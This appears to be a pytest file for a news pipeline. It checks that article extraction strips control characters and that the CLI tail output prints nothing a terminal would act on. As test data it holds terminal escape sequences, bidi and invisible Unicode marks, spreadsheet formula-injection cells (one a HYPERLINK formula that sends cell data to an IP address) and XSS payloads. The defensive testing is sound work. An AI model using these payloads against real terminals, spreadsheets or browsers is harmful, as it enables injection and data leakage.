"""What strangers wrote, on its way to a terminal, a browser and a spreadsheet: what events carry, what `tail` prints.

Events carry text as it was said, but for control characters. A formula is one in a spreadsheet only, a tag in a
browser only: whoever writes cells or markup escapes for that place (docs/consuming.md says so). The terminal is ours.
"""

import json
import unicodedata

import pytest

from pipelines.cli.rendering import line
from transforms.extract import article_or_ending
from transforms.records import Page

ESCAPES = ("\x1b[2J\x1b[31m", "\x1b]0;owned\x07", "\x9b31m", "\x08\x08\x7f", "\x00", "\x1b]8;;http://a.example\x1b\\")
MARKS = ("\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\u061c", "\U000e0041")
OBEYED = {one for one in "".join(ESCAPES + MARKS) if unicodedata.category(one)[0] in "CZ"}
CELLS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://10.0.0.1/?"&A1,"ban")')
TAGS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", '"><svg onload=alert(1)>')
URL = "https://paper.example/1"


def carried(title):
    """The article's title and text, of a page that says the title in all places."""
    said = title.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    body = f"<p>{said} Nepal has lifted its ban on TikTok, ministers said after a long debate on Thursday.</p>" * 3
    markup = (
        f'<html><head><title>{said}</title><meta name="description" content="{said}"></head>'
        f"<body><article><h1>{said}</h1>{body}</article></body></html>"
    )
    page = Page(
        requested=URL,
        url=URL,
        status=200,
        content_type="text/html",
        charset="utf-8",
        robots=None,
        body=markup.encode(),
        fetched="2026-01-31T10:00:00.000Z",
    )
    return article_or_ending(page, None)


@pytest.mark.parametrize("hostile", ESCAPES)
def test_no_control_character_is_carried(hostile):
    article = carried(f"Nepal {hostile}lifts its ban")
    for text in (article.title, article.summary, article.text):
        assert "lifts its ban" in text
        assert set() == {unicodedata.category(one) for one in text if one not in "\n\t"} & {"Cc", "Cs"}


@pytest.mark.parametrize("hostile", CELLS + TAGS)
def test_formulas_and_markup_are_carried_as_they_were_said(hostile):
    title = f"{hostile} Nepal lifts its ban on TikTok"
    article = carried(title)
    assert title.strip() == article.title
    assert title.strip() == article.summary


@pytest.mark.parametrize("hostile", ESCAPES + MARKS)
@pytest.mark.parametrize("topic", ["articles", "latest", "finds", "feeds", "outcomes", "sources", "dead-letters"])
def test_tail_prints_nothing_that_a_terminal_obeys(hostile, topic):
    text = f"a{hostile}b"
    words = {
        "type": f"org.beatwire.article.{text}",
        "revision": text,
        "item": {"headlines": [{"value": text}]},
        "tags": {"topics": [text], "apps": [text], "stage": text, "status": text, "jurisdictions": [text]},
        "source": {"id": text, "link": text, "feed": text},
        "entry": {"title": text, "link": text},
        "change": {"reason": text},
        **dict.fromkeys(("outcome", "reason", "step", "feedId", "link", "error", "publisher", "url", "kind"), text),
        **dict.fromkeys(("found", "polled", "ended", "nextPoll", "failures"), text),
    }
    headers = [("ce_time", text.encode("utf-8", "replace")), ("error.message", text.encode("utf-8", "replace"))]
    shown = line(headers, json.dumps(words).encode(), topic)
    assert set() == OBEYED & set(shown)
    assert shown.count("\n") <= 1
